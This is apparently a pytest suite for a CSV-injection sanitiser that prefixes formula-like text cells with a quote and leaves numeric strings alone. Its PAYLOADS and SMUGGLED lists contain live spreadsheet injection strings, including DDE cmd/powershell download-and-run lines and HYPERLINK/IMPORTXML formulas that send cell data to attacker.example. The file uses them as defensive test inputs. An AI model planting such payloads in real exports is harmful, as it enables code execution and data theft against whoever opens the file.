"""CSV injection: every exported text cell that a spreadsheet would run is neutralised; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from services.csv_safety import DANGEROUS_PREFIXES, neutralise_cell, neutralise_frame, to_safe_csv

# Payloads a spreadsheet runs or interprets when a cell starts with them (OWASP CSV injection list,
# DDE and HYPERLINK exfiltration variants).
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0",
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    '=IMPORTXML(CONCAT("http://attacker.example/?v=",A1),"//a")',
    "+1+cmd|' /C calc'!A0",
    "+thespanishinquisition(cmd|'/c calc.exe'!A",
    "-2+3+cmd|' /C calc'!A0",
    "-1+1",
    "-",
    "+",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\x00=1+1",
    "\tplain text after a tab",
    "\r\n",
    "=",
    '=DDE("cmd";"/C calc";"!A0")',
    "-1\n",  # looks like a number up to the newline: it is text
    "-3 apples",
    "+ 4",
    "--5",
    "=-3",
]

# Strings a spreadsheet reads as plain numbers: left as they are (and so still numbers).
NUMERIC_STRINGS = ["-3", "+4.5", "-0.25", "-.5", "+7", "-1e5", "-2.5E-3", "0", "12", "1e3", "3.14"]

SAFE_TEXT = ["Awareness", "Pricing page", "a=b", "x-1", "mail@example.com", "100%", " =1+1", "'=1+1", "", "Hành trình"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_neutralised(payload):
    out = neutralise_cell(payload)
    assert out == "'" + payload
    assert not out.startswith(DANGEROUS_PREFIXES)


@pytest.mark.parametrize("text", NUMERIC_STRINGS)
def test_numeric_strings_stay_as_they_are(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("text", SAFE_TEXT)
def test_harmless_text_is_untouched(text):
    assert neutralise_cell(text) == text


@pytest.mark.parametrize("value", [-3, -2.5, 0, 7, 1e-9, float("-inf"), None, True, pd.Timestamp("2026-01-01")])
def test_non_text_values_are_untouched(value):
    assert neutralise_cell(value) is value


def _read_back(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_exported_csv_has_no_dangerous_cell_and_numbers_stay_numbers():
    frame = pd.DataFrame(
        {
            "touchpoint": PAYLOADS,
            "count": range(len(PAYLOADS)),
            "delta": [-(i + 0.5) for i in range(len(PAYLOADS))],
            "mixed": [(-i if i % 2 else f"=A{i}") for i in range(len(PAYLOADS))],
        }
    )
    rows = _read_back(to_safe_csv(frame))
    assert rows[0] == ["touchpoint", "count", "delta", "mixed"]
    body = rows[1:]
    assert len(body) == len(PAYLOADS)
    for i, (touchpoint, count, delta, mixed) in enumerate(body):
        assert touchpoint == "'" + PAYLOADS[i]
        assert count == str(i)
        assert float(delta) == -(i + 0.5)  # negative numbers are written as numbers, unquoted
        assert mixed == (str(-i) if i % 2 else f"'=A{i}")
        for cell in (touchpoint, count, delta, mixed):
            assert not cell.startswith(DANGEROUS_PREFIXES) or float(cell) <= 0


def test_numeric_columns_keep_their_dtype():
    frame = pd.DataFrame({"n": [-1, 2, -3], "x": [-0.5, 1.5, float("nan")], "s": ["-1", "=1", "ok"]})
    out = neutralise_frame(frame)
    assert out["n"].dtype == frame["n"].dtype and out["n"].tolist() == [-1, 2, -3]
    assert out["x"].dtype == frame["x"].dtype
    assert out["s"].tolist() == ["-1", "'=1", "ok"]
    # The original frame is not modified.
    assert frame["s"].tolist() == ["-1", "=1", "ok"]


@pytest.mark.parametrize(
    "dtype",
    ["object", "string", "category"],
)
def test_every_text_dtype_is_covered(dtype):
    frame = pd.DataFrame({"c": pd.Series(["=1+1", "@x", "fine", None], dtype=dtype)})
    out = neutralise_frame(frame)
    values = out["c"].astype(object).tolist()
    assert values[:3] == ["'=1+1", "'@x", "fine"]
    assert pd.isna(values[3])


def test_headers_are_neutralised():
    frame = pd.DataFrame({'=HYPERLINK("http://x")': [1], "-region": ["a"], "ok": [2]})
    header = _read_back(to_safe_csv(frame))[0]
    assert header == ['\'=HYPERLINK("http://x")', "'-region", "ok"]


def test_duplicate_column_names_are_exported():
    frame = pd.DataFrame([["=a", "=b", 1]], columns=["x", "x", "n"])
    rows = _read_back(to_safe_csv(frame))
    assert rows == [["x", "x", "n"], ["'=a", "'=b", "1"]]


# Cells whose own start is harmless but which carry a formula after a line break.
SMUGGLED = ["x\r=cmd|' /C calc'!A0", "x\n=1+1", "x\r\n@SUM(1)", "\r=1+1", "ok\r+1+1"]
_QUOTED = re.compile(r'"(?:[^"]|"")*"')


def test_line_breaks_cannot_start_a_new_row_with_a_formula():
    """A lenient reader (one that breaks rows at any CR or LF outside quotes) sees no formula either."""
    frame = pd.DataFrame({"note": SMUGGLED, "n": range(len(SMUGGLED))})
    data = to_safe_csv(frame)
    assert [row[0] for row in _read_back(data)[1:]] == [neutralise_cell(v) for v in SMUGGLED]
    outside_quotes = _QUOTED.sub("Q", data.decode("utf-8-sig"))
    lines = re.split(r"\r\n|\r|\n", outside_quotes)
    assert len(lines) == len(SMUGGLED) + 2  # header, rows, the empty string after the last CRLF
    for line in lines:
        assert not line.startswith(DANGEROUS_PREFIXES), line


def test_csv_starts_with_a_bom_for_spreadsheets():
    assert to_safe_csv(pd.DataFrame({"a": ["é"]})).startswith(b"\xef\xbb\xbf")


@settings(max_examples=300, deadline=None, derandomize=True)
@given(st.text(max_size=30))
def test_any_text_comes_out_safe_or_numeric(text):
    out = neutralise_cell(text)
    if out.startswith(DANGEROUS_PREFIXES):
        float(out)  # only a plain number may keep a sign in front
        assert out == text
    else:
        assert out in (text, "'" + text)
